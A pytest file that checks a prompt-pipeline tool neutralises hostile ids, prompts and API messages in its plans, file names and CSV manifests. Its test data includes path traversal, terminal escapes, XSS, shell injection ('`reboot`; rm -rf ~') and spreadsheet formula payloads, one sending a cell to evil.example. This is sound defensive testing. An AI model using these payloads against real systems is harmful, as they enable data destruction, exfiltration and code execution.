"""Ids and prompts that would do harm somewhere are refused in the plan, or shown to be harmless wherever they are shown."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from typing import TYPE_CHECKING

import pytest

from pipeline.errors import SpecError
from pipeline.spec import load_spec
from pipeline.stores.safe_names import validate_name
from tests.cli.process import Makeready
from tests.servers.scripted import ScriptedServer, answer
from tests.work.test_job import results
from tests.work.trial import IMPATIENT

if TYPE_CHECKING:
    from pathlib import Path

    from tests.work.trial import Trial

HOSTILE = {
    "traversal": "../../etc/passwd",
    "traversal of Windows": "..\\..\\boot.ini",
    "another folder": "a/b",
    "root": "/etc/passwd",
    "NUL": "a\0.png",
    "colour codes": "\x1b[31mred\x1b[2J",
    "8-bit codes": "\x9b31mred",
    "window title": "\x1b]0;owned\x07",
    "a link in the terminal": "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "back over itself": "good\rbad\b\b\b",
    "markup": "<script>alert(1)</script>",
    "an image": "<img src=x onerror=alert(1)>",
    "formula": "=cmd|' /C calc'!A0",
    "formula in wide signs": "＝HYPERLINK(＂https://evil.example/＂)",
    "formula of another kind": '=HYPERLINK("https://evil.example/?"&A1)',
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "turned round": "photo\u202egnp.exe",
    "isolated": "a\u2066b\u2069",
    "device": "CON",
    "device with an ending": "nul.txt",
    "option": "-rf",
    "hidden": ".ssh",
    "look-alike": "аdmin",  # the first letter is Cyrillic
    "full width": "ａ",
    "shell": "$(reboot)",
    "shell of another kind": "`reboot`; rm -rf ~",
    "Python": "{0.__class__.__init__.__globals__}",
    "template": "{{7*7}}",
    "percent": "%n%s%x",
    "Markdown": "[a](javascript:alert(1)) | b | **c** `d`",
    "rich": "[bold red on white]loud[/] :bomb:",
    "10,000 and more": "a" * 10_001,
    "emptiness": "",
    "white space": " \u2003 ",
    "half a letter": "\ud800",
    "no letter at all": "a\uffff",
    "tags": "a\U000e0041\U000e0042",
}


def rows_spec(folder: Path, value: str, *, prompt: str = "A picture of {text}", item: str = "item-{text}") -> Path:
    """A spec whose one item takes the value from a row."""
    (folder / "rows.jsonl").write_text(json.dumps({"text": value}) + "\n")
    spec = {"job": "hostile", "prompts": [{"id": item, "prompt": prompt, "from": "rows.jsonl"}]}
    (folder / "spec.yaml").write_text(json.dumps(spec))
    return folder / "spec.yaml"


def harmless(text: str) -> bool:
    """Nothing in it moves a cursor, hides or turns text; line ends are the writer's own."""
    signs = text.replace("\n", "")
    return not any(unicodedata.category(sign) in {"Cc", "Cf", "Cs", "Co", "Cn"} for sign in signs)


def cells_of(table: Path) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(table.read_text("utf-8-sig"))) for cell in row]


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_id_is_refused_with_a_sentence_that_is_harmless_itself(text: str, tmp_path: Path) -> None:
    for spec in (
        {"job": "hostile", "prompts": [{"id": text, "prompt": "x"}]},
        {"job": text, "prompts": [{"id": "a", "prompt": "x"}]},
    ):
        (tmp_path / "spec.yaml").write_text(json.dumps(spec))
        with pytest.raises(SpecError) as refusal:
            load_spec(tmp_path / "spec.yaml")
        assert harmless(str(refusal.value))
        assert len(str(refusal.value)) < 5_000


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_value_in_a_row_makes_a_plain_id_or_none(text: str, tmp_path: Path) -> None:
    said, orders = "", ()
    try:
        orders = load_spec(rows_spec(tmp_path, text)).orders
    except SpecError as refusal:
        said = str(refusal)
    assert harmless(said)
    assert bool(said) != bool(orders)
    assert [validate_name(order.item) for order in orders if order.fingerprint] == [order.item for order in orders]


def test_ids_that_are_one_file_on_some_disks_are_refused(tmp_path: Path) -> None:
    twins = [{"id": "Shield", "prompt": "x"}, {"id": "shield", "prompt": "y"}, {"id": "SHIELD.take-2", "prompt": "z"}]
    spec = {"job": "j", "defaults": {"takes": [1, 2]}, "prompts": twins}
    (tmp_path / "spec.yaml").write_text(json.dumps(spec))
    with pytest.raises(SpecError) as refusal:
        load_spec(tmp_path / "spec.yaml")
    assert len(refusal.value.mistakes) >= 2


PROMPTS = {name: text for name, text in HOSTILE.items() if name not in {"10,000 and more", "emptiness", "white space"}}


@pytest.fixture
def takes(tmp_path: Path) -> dict[str, str]:
    """The hostile prompts that a spec takes, by the item's id; the others are refused."""
    taken = {}
    for number, text in enumerate(PROMPTS.values(), start=1):
        try:
            (order,) = load_spec(rows_spec(tmp_path, text, prompt="{text}", item=f"item-{number}-{{text}}")).orders
        except SpecError:
            continue
        taken[order.item] = order.request.prompt
    assert len(taken) > 15
    return taken


def spec_of(prompts: dict[str, str], folder: Path) -> Path:
    (folder / "rows.jsonl").write_text("".join(json.dumps({"n": n, "text": text}) + "\n" for n, text in prompts.items()))
    body = {
        "job": "hostile",
        "pace": "1000/1s",
        "checks": {"min_long_side": 64},
        "defaults": {"size": "96x64"},
        "prompts": [{"id": "{n}", "prompt": "{text}", "from": "rows.jsonl"}],
    }
    (folder / "spec.yaml").write_text(json.dumps(body))
    return folder / "spec.yaml"


def test_the_plan_shows_them_as_they_stand_and_obeys_none(takes: dict[str, str], tmp_path: Path) -> None:
    makeready = Makeready(tmp_path)
    spec = spec_of(takes, tmp_path)
    plain = makeready("plan", str(spec))
    assert plain.code == 0, plain.err
    assert harmless(plain.out + plain.err)
    assert "[bold red on white]loud[/] :bomb:" in plain.out
    told = makeready("plan", "--json", str(spec))
    assert {item["id"]: item["request"]["prompt"] for item in json.loads(told.out)["items"]} == takes
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]", told.out)


def test_a_job_of_them_is_delivered_and_its_files_are_harmless(takes: dict[str, str], trial: Trial) -> None:
    text = spec_of(takes, trial.folder).read_text()
    with trial.serving():
        manifest = trial.run(text, door=IMPATIENT)
    assert results(manifest) == {"delivered"}
    root = trial.shelf / "hostile"
    keys = [str(path.relative_to(root)) for path in root.rglob("*")]
    assert all(re.fullmatch(r"[A-Za-z0-9._/-]+", key) for key in keys)
    assert {item.request["prompt"] for item in manifest.items} == set(takes.values())
    cells = cells_of(root / "manifest.csv")
    assert harmless("".join(cells))
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r"))] == []
    assert any(cell.startswith("'=cmd") for cell in cells)
    assert harmless((root / "SHA256SUMS").read_text())


SAID = "=cmd|' /C calc'!A0 \x1b[2J\x9b31m\u202e<script>alert(1)</script>\r\n| x |\0"


def test_what_the_api_says_is_shown_as_it_stands_and_obeyed_nowhere(tmp_path: Path) -> None:
    body = json.dumps({"success": False, "errors": [{"code": 2017, "message": SAID}]}, ensure_ascii=False).encode()
    (tmp_path / "spec.yaml").write_text('{"job": "j", "prompts": [{"id": "a", "prompt": "x"}, {"id": "b", "prompt": "y"}]}')
    with ScriptedServer(answer(body, "Content-Type: application/json", status="422 No")) as api:
        environ = {
            "CLOUDFLARE_API_BASE": f"http://127.0.0.1:{api.port}/client/v4",
            "CLOUDFLARE_ACCOUNT_ID": "0" * 32,
            "CLOUDFLARE_API_TOKEN": "canary-token-0123456789",
        }
        words = ("run", "spec.yaml", "--plain", "--destination", "shelf")
        ended = Makeready(tmp_path, environ)(*words, "--yes")
    assert ended.code == 3, ended.err
    assert "<script>" in ended.out + ended.err
    assert harmless(ended.out + ended.err)
    cells = [
        cell for row in csv.reader(io.StringIO((tmp_path / "shelf/j/manifest.csv").read_text("utf-8-sig"))) for cell in row
    ]
    assert harmless("".join(cells))
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))] == []
    account = json.loads((tmp_path / "shelf/j/manifest.json").read_text())
    assert all(harmless(item["reason"]) for item in account["items"])
